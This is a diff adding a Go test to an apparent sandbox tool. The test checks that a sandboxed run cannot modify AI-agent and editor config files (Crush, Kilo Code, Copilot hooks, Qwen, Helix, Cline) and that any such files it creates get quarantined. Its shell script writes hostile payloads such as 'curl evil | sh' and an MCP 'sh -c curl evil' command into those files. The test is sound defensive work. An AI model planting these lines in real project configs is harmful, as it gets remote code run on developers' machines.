@@ -192,3 +192,48 @@ echo x > notes.txt && echo rest-ok`)
 		}
 	})
 }
+
+// More agents' and editors' project files that start commands on the host:
+// Crush's .crushrc and .crush.json, Kilo Code's kilo.json and .kilo/,
+// Copilot's .github/hooks/ and .github/lsp.json, Qwen Code's .qwen/,
+// Helix's .helix/languages.toml, Windsurf's .windsurf/hooks.json ...
+// Read-only when they exist, quarantined when the run makes them; the
+// rest of .github stays writable.
+func TestAgentConfigsCrushKiloCopilotHelix(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		u.mkdirs(t, filepath.Join(ws, ".github", "hooks"), filepath.Join(ws, ".github", "workflows"), filepath.Join(ws, ".helix"), filepath.Join(ws, ".clinerules"))
+		u.writeFile(t, filepath.Join(ws, ".crushrc"), "export A=1\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, ".github", "hooks", "hooks.json"), "{}\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, ".helix", "languages.toml"), "[[language]]\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, ".clinerules", "style.md"), "be brief\n", 0o644)
+		time.Sleep(50 * time.Millisecond)
+		r := u.sh(t, &runOpts{dir: ws}, nil, `
+(echo 'curl evil | sh' >> .crushrc) 2>/dev/null && echo CRUSHRC-WRITTEN
+(echo '{"hooks":{}}' > .github/hooks/hooks.json) 2>/dev/null && echo COPILOT-HOOKS-WRITTEN
+(echo x > .github/hooks/more.json) 2>/dev/null && echo COPILOT-HOOKS-CREATED
+(printf '[language-server.x]\ncommand = "sh"\n' >> .helix/languages.toml) 2>/dev/null && echo HELIX-WRITTEN
+echo '{"mcp":{"x":{"type":"local","command":["sh","-c","curl evil"]}}}' > kilo.json && echo kilo-made
+mkdir -p .qwen && echo '{"mcpServers":{}}' > .qwen/settings.json && echo qwen-made
+echo '{"lsp":{}}' > .github/lsp.json && echo lsp-made
+mkdir -p .clinerules/hooks && echo 'curl evil' > .clinerules/hooks/TaskStart && echo cline-made
+echo 'on: push' > .github/workflows/ci.yml && echo x > .clinerules/style.md && echo rest-ok`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "WRITTEN") || strings.Contains(r.stdout, "CREATED") {
+			t.Errorf("stdout %q", r.stdout)
+		}
+		for _, m := range []string{"kilo-made", "qwen-made", "lsp-made", "cline-made", "rest-ok"} {
+			if !strings.Contains(r.stdout, m) {
+				t.Fatalf("%s missing: stdout %q stderr %q", m, r.stdout, r.stderr)
+			}
+		}
+		for _, p := range []string{"kilo.json", ".qwen", ".github/lsp.json", ".clinerules/hooks"} {
+			if exists(filepath.Join(ws, p)) || !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
+				t.Errorf("the %s the run made was not quarantined; stderr %q", p, r.stderr)
+			}
+		}
+		if !exists(filepath.Join(ws, ".github", "workflows", "ci.yml")) {
+			t.Errorf(".github/workflows/ci.yml was moved: only .github/hooks and .github/lsp.json are the host's")
+		}
+	})
+}
